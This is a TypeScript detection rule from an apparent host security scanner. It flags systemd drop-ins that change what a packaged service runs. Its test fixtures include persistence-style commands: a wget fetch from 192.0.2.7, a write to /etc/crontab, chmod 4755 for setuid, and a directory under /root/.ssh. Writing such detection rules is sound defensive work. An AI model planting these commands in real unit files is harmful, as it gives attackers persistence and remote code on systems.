import type { ClosureCommand } from "../inventory/closure.ts";
import type { ExecCommand } from "../syntax/exec-line.ts";
import { evidenceAt } from "./evidence.ts";
import { script, shipped } from "./example-host.ts";
import { commandsOf, isExec, overriddenUnits, runsItsArguments } from "./overrides.ts";
import type { ActivationRule } from "./rule.ts";
import { baseName } from "./subject.ts";

/** What administrators add to a package's job: tell somebody, or make a service take up the result. */
const TAME = /^(logger|mail|mailx|sendmail|test|\[|sleep|systemd-cat|systemd-notify|udevadm|sync)$/;
const RELOADS = /^(reload|restart|try-restart|reload-or-restart|try-reload-or-restart|is-active|is-enabled)$/;

/** A drop-in of nobody's package adds a command to a packaged unit, or replaces the one it had. */
export const dropInChangesCommand: ActivationRule = {
  id: "drop-in-changes-command",
  subject: "activation",
  title: "A drop-in changes what a package's job runs",
  severity: "high",
  confidence: "medium",
  signal: "suspicious",
  family: "provenance",
  depth: "regular",
  techniques: ["T1053.006", "T1543.002", "T1554"],
  controls: ["CM-3", "CM-5", "SI-7"],
  why: "The package's own file stays as shipped, so verification says all is well, and the job everyone knows runs something else as well.",
  benign: [
    "Drop-ins that only limit, harden or reschedule (not accused)",
    "Drop-ins that give the same program other arguments, reload a service, or send a ping (not accused)",
    "Overrides that a vendor's manual asks for",
  ],
  clears: "put the command into a unit of its own, or accept it with an owner",
  references: ["https://attack.mitre.org/techniques/T1543/002/", "man:systemd.unit(5)"],

  *check({ closure }, inventory) {
    for (const { loaded, foreign, original } of overriddenUnits(closure, inventory)) {
      const known = new Set(
        original.filter(({ setting }) => isExec(setting)).flatMap(({ setting }) => programsIn(setting.value)),
      );
      for (const { setting, fate } of foreign) {
        if (fate !== "effective") continue;
        for (const exec of commandsOf(loaded, setting)) {
          const command = closure.commands.find((each) => each.exec === exec);
          const isSame = known.has(mergedPath(exec.path)) && !runsItsArguments(exec.path);
          if (isTame(exec, command) || (isSame && !exec.flags.some((flag) => flag !== "ignore-failure")))
            continue;
          yield {
            says: `${setting.span.path} makes ${loaded.name} of a package run ${exec.argv.join(" ").slice(0, 120)} (${setting.key}=)`,
            evidence: [evidenceAt(inventory, setting.span)],
          };
        }
      }
    }
  },

  examples: () => ({
    fires: [
      shipped("vendor", "ExecStart=/usr/bin/true", {
        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=/root/run.sh\n",
        "/root/run.sh": script(),
      }),
      shipped("vendor", "ExecStart=/usr/bin/true", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStart=\nExecStart=/usr/bin/touch /srv/x\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=/usr/bin/true\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=+/usr/bin/vendor --more\n",
      }),
      shipped("vendor", "ExecStart=/bin/sh /usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=/bin/sh /root/run.sh\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPre=/usr/bin/systemctl disable x.service\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPre=/usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
      }),
      shipped("vendor", "WorkingDirectory=/srv/x\nExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=/srv/x\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPre=/bin/sleep 5\nExecStartPre=/bin/mkdir -p /root/.ssh/x\nExecStartPost=/usr/bin/echo a b > /etc/crontab\nExecStartPost=/bin/chmod 4755 /srv/sh\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPre=/usr/bin/systemd-cat /usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPost=/usr/bin/systemd-cat /usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
      }),
    ],
    finds: {
      9: [
        "suspicious high medium /etc/systemd/system/vendor.service.d/x.conf:4: /etc/systemd/system/vendor.service.d/x.conf makes vendor.service of a package run /usr/bin/echo a b > /etc/crontab (ExecStartPost=)",
        "suspicious high medium /etc/systemd/system/vendor.service.d/x.conf:5: /etc/systemd/system/vendor.service.d/x.conf makes vendor.service of a package run /bin/chmod 4755 /srv/sh (ExecStartPost=)",
        "suspicious high medium /etc/systemd/system/vendor.service.d/x.conf:3: /etc/systemd/system/vendor.service.d/x.conf makes vendor.service of a package run /bin/mkdir -p /root/.ssh/x (ExecStartPre=)",
      ],
    },
    quiet: [
      shipped("vendor", "ExecStart=/sbin/vendor --all", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStart=\nExecStart=-/usr/sbin/vendor --verbose\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nNice=10\nExecStart=\nExecStart=/usr/bin/vendor --quiet\nExecStartPost=/usr/bin/systemctl reload nginx.service\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPost=-/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1\n",
      }),
      shipped("vendor", "ExecStart=/usr/bin/vendor", {
        "/etc/systemd/system/vendor.service.d/x.conf":
          "[Service]\nExecStartPost=/root/run.sh\nExecStartPost=\nExecStartPre=-/usr/bin/vendor --check\nExecStartPre=/usr/bin/wget -q --spider https://hc.example.test/ping/1\n",
      }),
    ],
  }),
};

function programsIn(value: string): readonly string[] {
  const program = /^[-@:+!|]*(\S+)/.exec(value)?.[1];
  return program === undefined ? [] : [mergedPath(program)];
}

function isTame({ path, argv }: ExecCommand, command: ClosureCommand | undefined): boolean {
  const name = baseName(path);
  if (TAME.test(name)) return command === undefined || command.followed.behaviours.length === 0;
  if (name === "systemctl") return argv.some((word) => RELOADS.test(word));
  if (name !== "curl" && name !== "wget") return false;
  return command?.followed.behaviours.every(({ kind }) => kind === "network-ping") ?? false;
}

/** With `/usr` merged, `/sbin/x`, `/bin/x` and `/usr/sbin/x` name one program. */
function mergedPath(path: string): string {
  return path.replace(/^\/(usr\/)?s?bin\//, "/usr/bin/");
}
